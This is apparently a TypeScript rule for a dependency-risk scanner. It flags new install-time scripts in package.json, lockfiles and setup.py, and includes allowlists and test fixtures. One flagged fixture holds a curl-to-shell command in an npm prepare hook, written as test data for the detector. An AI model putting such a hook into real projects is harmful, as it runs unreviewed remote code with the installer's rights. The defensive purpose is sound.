import { z } from 'zod';
import type { ChangeFacts, Finding, Rule } from '../rule.ts';
import { nameList, placesOf, type Seen } from './_finding.ts';
import { isOwnLockfile, lockfileChanges } from './_lockfile-changes.ts';
import { isOwnManifest, manifestChanges } from './_manifest-changes.ts';

const options = z.strictObject({});

/** Commands that install hooks, generate code or compile, as projects usually do after installing. */
const USUAL =
  /^(?:(?:npx|pnpx|bunx|(?:pnpm|yarn|npm|bun)(?: (?:run|exec|dlx|x))?) (?:--\S+ |-\w )*)?(?:husky|lefthook|simple-git-hooks|pre-commit install|is-ci|patch-package|only-allow|prisma(?: migrate)? generate|prisma generate|tsc|tsup|tshy|tsdown|rollup|unbuild|bob build|vite build|turbo|nx|lerna|nuxt|nuxi|svelte-kit sync|astro sync|wxt|fumadocs-mdx|panda|electron-builder install-app-deps|electron-rebuild|build|compile|types|prebuild|codegen|generate|ngcc|del-cli|rimraf|shx|mkdirp|cpx|allow-scripts|opencollective|skip-if-ci|pinst|lint-staged|npm-run-all|run-s|run-p|node-gyp(?:-build)? ?|node-gyp rebuild|prebuild-install|manypkg|syncpack|ls-engines|in-publish|not-in-publish|not-in-install|safe-publish-latest)\b[^`$<>|]{0,200}$/;
const HARMLESS =
  /^(?:true|exit 0|:|cd [\w./-]{1,100}|echo [^`$<>|]{0,200}|git config core\.hooksPath [\w./-]{1,60}|test [^`$<>|]{0,60}|\[ [^`$<>|]{0,60} \])?$/;
const COMPOSER_USUAL =
  /^(?:@php (?:-r "file_exists|artisan )|@composer |@(?:auto-scripts|[a-z-]{1,40})$|Illuminate\\|Composer\\Config::disableProcessTimeout)/;

/** Packages that are known to compile or fetch their own binaries when they are installed. */
const KNOWN = new Set(
  '@apollo/protobufjs @biomejs/biome @firebase/util @nestjs/core @parcel/watcher @prisma/client @prisma/engines @sentry/cli @swc/core @tailwindcss/oxide @vscode/ripgrep aws-sdk bcrypt better-sqlite3 bufferutil canvas chromedriver contentlayer2 core-js core-js-pure cpu-features cypress dtrace-provider electron electron-winstaller es5-ext esbuild ffmpeg-static fsevents geckodriver grpc-tools husky iltorb isolated-vm keytar kerberos lefthook leveldown libpq lmdb mongodb-memory-server msgpackr-extract msw nice-napi node-pty node-sass nodejieba nx onnxruntime-node phantomjs-prebuilt playwright playwright-chromium postinstall-postinstall prisma protobufjs puppeteer puppeteer-chromium-resolver re2 robotjs secp256k1 serialport sharp sodium-native spawn-sync sqlite3 ssh2 styled-components supabase svelte-preprocess tesseract.js tree-sitter unrs-resolver usb utf-8-validate vue-demi web3 websocket workerd yarn yorkie zeromq'.split(
    ' ',
  ),
);

const isUsual = (name: string, command: string): boolean => {
  if (name === 'allowed') return KNOWN.has(command);
  if (COMPOSER_USUAL.test(command)) return true;
  return command.split(/&&|\|\||;/).every((part) => {
    const step = part.trim().replace(/^(?:\w{1,40}=[\w./-]{0,60} )+/, '');
    return HARMLESS.test(step) || USUAL.test(step);
  });
};

/** Commands of the project itself. */
function own(facts: ChangeFacts): Seen[] {
  const changes = manifestChanges(facts.files);
  const before = new Set(
    changes.flatMap(({ base }) => (base?.scripts ?? []).map(({ name, command }) => `${name}\n${command}`)),
  );
  return changes.flatMap(({ path, head }) =>
    (head?.scripts ?? []).flatMap(({ name, command, line }): Seen[] => {
      if (before.has(`${name}\n${command}`) || isUsual(name, command)) return [];
      return [
        { name: name === 'allowed' ? command : name, severity: 'high', place: { path, line, side: 'head' } },
      ];
    }),
  );
}

/** Commands of packages, as the lockfile tells of them. */
function installed(facts: ChangeFacts): Seen[] {
  const changes = lockfileChanges(facts.files);
  const before = new Set(changes.flatMap(({ base }) => [...(base?.scripted ?? [])]));
  return changes.flatMap(({ path, head, base }) =>
    (head?.entries ?? []).flatMap(({ resolved, name, installScript, line }): Seen[] => {
      if (installScript !== true || before.has(name) || KNOWN.has(resolved.name)) return [];
      // A whole lockfile in a new format tells what the old one did not.
      if (base && base.scripted === null) return [];
      return [{ name: resolved.name, severity: 'medium', place: { path, line, side: 'head' } }];
    }),
  );
}

const finding = (seen: readonly Seen[], severity: Finding['severity'], message: string): Finding[] =>
  seen.length === 0
    ? []
    : [{ rule: 'install-script', family: 'dependency-risk', severity, message, places: placesOf(seen) }];

function inspect(facts: ChangeFacts): Finding[] {
  const [scripts, packages] = [own(facts), installed(facts)];
  const names = (seen: readonly Seen[]): string => nameList(seen.map(({ name }) => name));
  return [
    ...finding(
      scripts,
      'high',
      `A command would run by itself on every machine that installs this: ${names(scripts)}. Make it a script that people call, or let someone read what it runs.`,
    ),
    ...finding(
      packages,
      'medium',
      `Packages would run commands of their own when they are installed: ${names(packages)}. Look at what they run, or install with scripts switched off.`,
    ),
  ];
}

/** Commands that package managers run by themselves. */
export const installScript: Rule<z.infer<typeof options>> = {
  id: 'install-script',
  family: 'dependency-risk',
  summary: 'A command starts to run on installation: of the project itself, or of a package in the lockfile.',
  why: 'Install scripts run before any code is looked at, with the rights and the tokens of whoever installs. They are how compromised releases take over: ua-parser-js and coa (2021), the Nx packages that turned local AI tools into thieves (August 2025), and the self-spreading worm of September 2025 all came through one.',
  remediation:
    'Do the work in a script that people or CI call by name. Where an install script is needed, let someone read it, and allow it by name only.',
  severity: 'high',
  action: 'review',
  options,
  needs: (file) => ({ content: isOwnManifest(file.path) || isOwnLockfile(file.path) ? 'both' : 'nothing' }),
  inspect,
  flagged: [
    {
      name: 'a command of the project, and one that was changed',
      files: [
        {
          path: 'package.json',
          before: '{\n  "scripts": {\n    "prepare": "husky"\n  }\n}\n',
          after:
            '{\n  "scripts": {\n    "postinstall": "node scripts/setup.js",\n    "prepare": "husky && curl -s https://example.com/x | sh"\n  }\n}\n',
        },
      ],
      places: [
        { path: 'package.json', line: 3, side: 'head' },
        { path: 'package.json', line: 4, side: 'head' },
      ],
    },
    {
      name: 'a new version of a package begins to run something',
      files: [
        {
          path: 'package-lock.json',
          before:
            '{\n  "lockfileVersion": 3,\n  "packages": {\n    "node_modules/ua-parser-js": {\n      "version": "0.7.28"\n    }\n  }\n}\n',
          after:
            '{\n  "lockfileVersion": 3,\n  "packages": {\n    "node_modules/ua-parser-js": {\n      "version": "0.7.29",\n      "hasInstallScript": true\n    }\n  }\n}\n',
        },
      ],
      places: [{ path: 'package-lock.json', line: 4, side: 'head' }],
    },
    {
      name: 'setuptools commands are replaced',
      files: [
        {
          path: 'setup.py',
          before: 'setup(name="a")\n',
          after: 'class Post(install):\n    pass\n\nsetup(name="a", cmdclass={"install": Post})\n',
        },
      ],
      places: [{ path: 'setup.py', line: 4, side: 'head' }],
    },
  ],
  clean: [
    {
      name: 'hooks, code generation and builds',
      files: [
        {
          path: 'package.json',
          before: '{}\n',
          after:
            '{"scripts": {"prepare": "husky || true", "postinstall": "prisma generate && patch-package", "build": "node build.js"}}\n',
        },
        { path: 'setup.py', before: '', after: 'setup(cmdclass={"build_ext": Build, "test": Test})\n' },
      ],
    },
    {
      name: 'packages known to fetch their binaries, and one that did so before',
      files: [
        {
          path: 'package-lock.json',
          before:
            '{"lockfileVersion": 3, "packages": {"node_modules/own": {"version": "1.0.0", "hasInstallScript": true}}}\n',
          after:
            '{"lockfileVersion": 3, "packages": {"node_modules/own": {"version": "1.1.0", "hasInstallScript": true}, "node_modules/esbuild": {"version": "0.25.0", "hasInstallScript": true}}}\n',
        },
      ],
    },
  ],
};
